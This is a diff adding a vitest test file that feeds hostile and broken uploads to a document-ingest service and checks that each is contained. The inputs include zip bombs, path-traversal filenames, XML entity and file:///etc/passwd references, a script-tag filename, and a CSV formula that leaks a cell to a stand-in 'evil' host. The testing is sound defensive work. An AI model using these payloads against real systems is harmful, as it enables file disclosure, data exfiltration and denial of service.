@@ -1,0 +1,299 @@
+// Hostile and broken files through the real app and real parsers (reliability.md, BAD-11 and BAD-20 to BAD-31): each ends
+// done or failed with its true sentence, nothing is called, read or left behind, and the service goes on.
+
+import { existsSync, readdirSync } from 'node:fs'
+import { createServer, type Server } from 'node:net'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { Job } from '../../src/contract/resources.ts'
+import { failureSentence } from '../../src/ingest/failures.ts'
+import type { ParserLimits } from '../../src/ingest/parse/limits.ts'
+import { createParserPool, type ParserPool } from '../../src/ingest/parse/pool.ts'
+import type { WorkDeps } from '../../src/ingest/work/work.ts'
+import { type Person, type TestApp, testApp } from '../support/app.ts'
+import {
+  callingPdf,
+  circularPdf,
+  damaged,
+  deepDocx,
+  entityDocx,
+  flateBomb,
+  floodPng,
+  manyEntries,
+  manyPages,
+  overlappingZip,
+  slippingZip,
+  zipBomb,
+} from '../support/files/bad.ts'
+import { makeDocx, makeWorkbook, wordParagraph } from '../support/files/office.ts'
+import { makePdf, prose } from '../support/files/pdf.ts'
+import { drain, upload } from '../support/ingest.ts'
+
+// A hundredth of the usual patience: the files are small.
+const limits: Partial<ParserLimits> = { baseMs: 20_000, capMs: 40_000, residentBytes: 600 * 2 ** 20 }
+
+let app: TestApp
+let pool: ParserPool
+let deps: WorkDeps
+let person: Person
+let token: string
+let canary: Server
+let calls = 0
+let port = 0
+
+beforeAll(async () => {
+  app = await testApp()
+  pool = createParserPool({ size: 2, cacheDir: app.deps.settings.dataDir, log: app.deps.log, limits })
+  deps = { ...app.deps, parser: pool }
+  person = await app.person()
+  token = await app.token(person)
+  canary = createServer((socket) => {
+    calls++
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
+  const address = canary.address()
+  port = typeof address === 'object' && address !== null ? address.port : 0
+})
+afterAll(async () => {
+  canary.close()
+  await pool.close()
+  await app.close()
+})
+
+const F = failureSentence
+
+/** How each file ended: its sentence, or `done`; and what the documents say. */
+async function ends(
+  files: Record<string, Buffer | string>,
+): Promise<{ ended: Record<string, string>; text: string; workspaceId: string }> {
+  const workspaceId = await app.workspace(person)
+  const { id } = await upload(deps, person, workspaceId, files)
+  await drain(deps)
+  const { body } = await app.send('GET', `/v1/jobs/${id}`, token)
+  const job = body as Job
+  expect(job.status).toBe('done')
+  const ended: Record<string, string> = {}
+  let text = ''
+  for (const file of job.files) {
+    ended[file.filename] = file.status === 'failed' ? (file.error ?? '') : file.status
+    if (file.document_id === undefined) continue
+    const url = `/v1/workspaces/${workspaceId}/documents/${file.document_id}?max_chars=60000`
+    const read = (await app.send('GET', url, token)).body as { chunks: { text: string }[] }
+    text += read.chunks.map((chunk) => chunk.text).join('\n')
+  }
+  return { ended, text, workspaceId }
+}
+
+const oneOf = (...sentences: string[]): unknown =>
+  expect.toSatisfy((ended: string) => sentences.includes(ended), `one of ${sentences.join(' ')}`)
+
+describe('containers', () => {
+  test('zip bombs: by ratio, by entries, lying, overlapping, nested; an entry that climbs out', async () => {
+    const { ended, text } = await ends({
+      'ratio.docx': zipBomb(60),
+      'lying.docx': zipBomb(60, 1000),
+      'overlapping.docx': overlappingZip(2000),
+      'entries.docx': manyEntries(20_000),
+      'nested.docx': await makeDocx(wordParagraph('outer')).then((inner) => damaged(inner, 3)),
+      'slipping.docx': await slippingZip('Rules of the slipway'),
+      'fine.docx': await makeDocx(wordParagraph('A small fine file')),
+    })
+    expect(ended).toEqual({
+      'ratio.docx': F.too_large_unpacked,
+      'lying.docx': oneOf(F.too_large_unpacked, F.damaged),
+      'overlapping.docx': oneOf(F.too_large_unpacked, F.damaged),
+      'entries.docx': oneOf(F.too_large_unpacked, F.damaged),
+      'nested.docx': oneOf(F.damaged, 'done'),
+      'slipping.docx': F.damaged,
+      'fine.docx': 'done',
+    })
+    expect(text).toContain('A small fine file')
+    expect(existsSync('/tmp/kenning-slipped.txt')).toBe(false)
+  })
+
+  test('entities: no local file is read, no server asked, no laughter; depth is bounded', async () => {
+    const { ended, text } = await ends({
+      'file.docx': await entityDocx('file', port),
+      'server.docx': await entityDocx('server', port),
+      'laughs.docx': await entityDocx('laughs', port),
+      'deep.docx': await deepDocx(5000),
+    })
+    for (const end of Object.values(ended)) expect(['done', ...Object.values(F)]).toContain(end)
+    expect(text).not.toMatch(/root:|laughs laughs laughs/)
+    expect(calls).toBe(0)
+  })
+})
+
+describe('PDF', () => {
+  test('bombs, circles, floods of pages, locks and calls', async () => {
+    const whole = makePdf([prose(['The tide gauge of the northern pier'])])
+    const { ended, text } = await ends({
+      'bomb.pdf': flateBomb(),
+      'circular.pdf': circularPdf(),
+      'pages.pdf': manyPages(25_000),
+      'calling.pdf': callingPdf(port),
+      'locked.pdf': makePdf([prose(['secret'])], { locked: true }),
+      'cut.pdf': whole.subarray(0, whole.length / 3),
+      'no-xref.pdf': Buffer.from(whole.toString('latin1').replace(/xref[\s\S]*trailer/, 'trailer'), 'latin1'),
+      'name-only.pdf': '%PDF-1.7\n',
+      'empty.pdf': '',
+    })
+    expect(ended).toEqual({
+      'bomb.pdf': oneOf(F.too_large_unpacked, F.took_too_long),
+      'circular.pdf': oneOf(F.no_text, F.damaged, F.too_large_unpacked),
+      'pages.pdf': F.too_large_unpacked,
+      'calling.pdf': 'done',
+      'locked.pdf': F.encrypted,
+      'cut.pdf': oneOf(F.damaged, F.no_text, 'done'),
+      'no-xref.pdf': 'done',
+      'name-only.pdf': F.damaged,
+      'empty.pdf': F.empty,
+    })
+    expect(text).toContain('Tide tables of the northern harbours')
+    expect(text).toContain('northern pier')
+    expect(calls).toBe(0)
+  })
+})
+
+describe('pictures', () => {
+  test('floods are refused by their header, the rest is damaged', async () => {
+    const gif = Buffer.concat([Buffer.from('GIF89a\xff\xff\xff\xff', 'latin1'), Buffer.alloc(40)])
+    const bmp = Buffer.alloc(64)
+    bmp.write('BM', 'latin1')
+    bmp.writeUInt32LE(40, 14)
+    bmp.writeInt32LE(65_535, 18)
+    bmp.writeInt32LE(-65_535, 22)
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
+    const jpeg = Buffer.concat([
+      Buffer.from('ffd8', 'hex'),
+      ...Array.from({ length: 160 }, () =>
+        Buffer.concat([Buffer.from('ffe1fffd', 'hex'), Buffer.alloc(65_531)]),
+      ),
+    ])
+    const { ended } = await ends({
+      'flood.png': floodPng(65_535, 65_535),
+      'long.png': floodPng(4_000_000_000, 1),
+      'flood.gif': gif,
+      'flood.bmp': bmp,
+      'svg.png': svg,
+      'exif.jpg': jpeg,
+      'nothing.png': floodPng(10, 10),
+    })
+    expect(ended).toEqual({
+      'flood.png': F.too_large_unpacked,
+      'long.png': F.too_large_unpacked,
+      'flood.gif': F.too_large_unpacked,
+      'flood.bmp': F.too_large_unpacked,
+      'svg.png': F.damaged,
+      'exif.jpg': F.damaged,
+      'nothing.png': F.damaged,
+    })
+  })
+})
+
+describe('text', () => {
+  test('controls, broken characters, endless words and lines are text', async () => {
+    const controls = `Ebb\u0000 and\u0001 flow \uFFFE\uFDD0 of the estuary ${'by day and by night '.repeat(20)}\n`
+    const { ended, text } = await ends({
+      'controls.txt': controls,
+      'surrogates.txt': Buffer.from([...Buffer.from('Spring tide \xed\xa0\x80 ', 'latin1'), 0xc0, 0x80, 10]),
+      'controls.md': `# Ebb\u0000\n\n${controls}`,
+      'controls.csv': `name,value\n${controls.trim()},1\n`,
+      'controls.docx': await makeDocx(wordParagraph('Ebb \u0001 and flow')),
+      'word.txt': 'x'.repeat(2 ** 20),
+      'words.txt': Array.from({ length: 8000 }, (_, i) => `w${(i * 7919).toString(36)}`).join(' '),
+      'line.csv': `a,b\n${'1,'.repeat(50_000)}`,
+      'columns.csv': Array.from({ length: 5000 }, (_, i) => `c${i}`).join(','),
+      'quote.csv': 'a,b\n1,"never closed\n2,3\n',
+      'wide.csv': Buffer.from('\ufeffname,value\nMoored,1\n', 'utf16le'),
+      'formula.csv': 'a,b\n=HYPERLINK("http://evil/?"&A1),+1\n',
+      'deep.md': `${'> '.repeat(500)}deep\n\n${'- '.repeat(200)}list`,
+    })
+    const accepted = ['line.csv', 'columns.csv', 'quote.csv', 'controls.docx', 'deep.md']
+    for (const [name, end] of Object.entries(ended)) {
+      if (accepted.includes(name)) expect(['done', ...Object.values(F)]).toContain(end)
+      else expect([name, end]).toEqual([name, 'done'])
+    }
+    expect(text).toContain('of the estuary')
+    expect(text).toContain('Spring tide')
+    expect(text).toContain('Moored')
+    expect(text).toContain('=HYPERLINK')
+    expect(text.isWellFormed()).toBe(true)
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
+    expect(text).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f]/)
+  })
+})
+
+describe('what a file is', () => {
+  test('every name over every content ends; damaged files of each kind end', async () => {
+    const contents = {
+      pdf: makePdf([prose(['A page of a report on buoys'])]),
+      docx: await makeDocx(wordParagraph('A letter about buoys')),
+      xlsx: makeWorkbook({
+        Buoys: [
+          ['name', 'depth'],
+          ['north', 4],
+        ],
+      }),
+      csv: Buffer.from('name,depth\nnorth,4\n'),
+    }
+    const files: Record<string, Buffer> = {}
+    for (const [content, bytes] of Object.entries(contents)) {
+      for (const name of ['pdf', 'docx', 'xlsx', 'csv', 'png', 'doc', 'pptx', 'unknown'])
+        if (content !== name)
+          files[`${content}.${name}`] = Buffer.concat([bytes, Buffer.from(content === 'csv' ? name : '')])
+    }
+    const matrix = await ends(pick(files, 20))
+    for (const end of Object.values(matrix.ended)) expect(['done', ...Object.values(F)]).toContain(end)
+    const broken: Record<string, Buffer> = {}
+    for (const [name, bytes] of Object.entries(contents))
+      for (let seed = 0; seed < 5; seed++) broken[`broken-${seed}.${name}`] = damaged(bytes, seed)
+    const { ended } = await ends(pick(broken, 20))
+    for (const end of Object.values(ended)) expect(['done', ...Object.values(F)]).toContain(end)
+  })
+})
+
+const pick = (files: Record<string, Buffer>, most: number): Record<string, Buffer> =>
+  Object.fromEntries(Object.entries(files).slice(0, most))
+
+describe('requests', () => {
+  const part = (name: string, text = 'x'): string =>
+    `--b\r\nContent-Disposition: form-data; name="files"; filename="${name}"\r\n\r\n${text}\r\n`
+  const bodies: Record<string, [payload: string, status: number]> = {
+    'no final boundary': [part('a.txt'), 422],
+    'another boundary': [part('a.txt').replace('--b', '--c'), 422],
+    'no file': ['--b--\r\n', 422],
+    '21 files': [`${Array.from({ length: 21 }, (_, i) => part(`${i}.txt`)).join('')}--b--\r\n`, 422],
+    '10,000 fields': [
+      `${'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n'.repeat(10_000)}--b--\r\n`,
+      422,
+    ],
+    'a head of a megabyte': [`--b\r\nX: ${'y'.repeat(2 ** 20)}\r\n${part('a.txt').slice(5)}--b--\r\n`, 422],
+    'a name that climbs': [`${part('../../a.txt')}--b--\r\n`, 422],
+    'an absolute name': [`${part('/etc/passwd.txt')}--b--\r\n`, 422],
+    'the same name twice': [`${part('a.txt')}${part('a.txt')}--b--\r\n`, 422],
+    'a name of 5 KB': [`${part(`${'n'.repeat(5000)}.txt`)}--b--\r\n`, 422],
+    'a name with markup': [`${part('<script>alert(1)</script>.txt'.replace('/', ''))}--b--\r\n`, 202],
+    'an escaped climb': [`${part('%2e%2e%2fa.txt')}--b--\r\n`, 202],
+  }
+
+  test.each(Object.entries(bodies))('%s', async (_, [payload, status]) => {
+    const before = jobsFolder()
+    const workspaceId = await app.workspace(person)
+    const answer = await app.send('POST', `/v1/workspaces/${workspaceId}/files`, token, {
+      payload,
+      headers: { 'content-type': 'multipart/form-data; boundary=b' },
+    })
+    expect(answer.status).toBe(status)
+    if (status === 422) expect(jobsFolder()).toEqual(before)
+  })
+})
+
+/** What stands in the folders of files that are being taken in. */
+function jobsFolder(): string[] {
+  const folder = app.deps.settings.dataDir
+  return readdirSync(folder)
+    .filter((name) => !name.startsWith('parser-') && name !== 'blobs' && name !== 'cache')
+    .flatMap((name) => readdirSync(join(folder, name), { recursive: true }).map(String))
+}
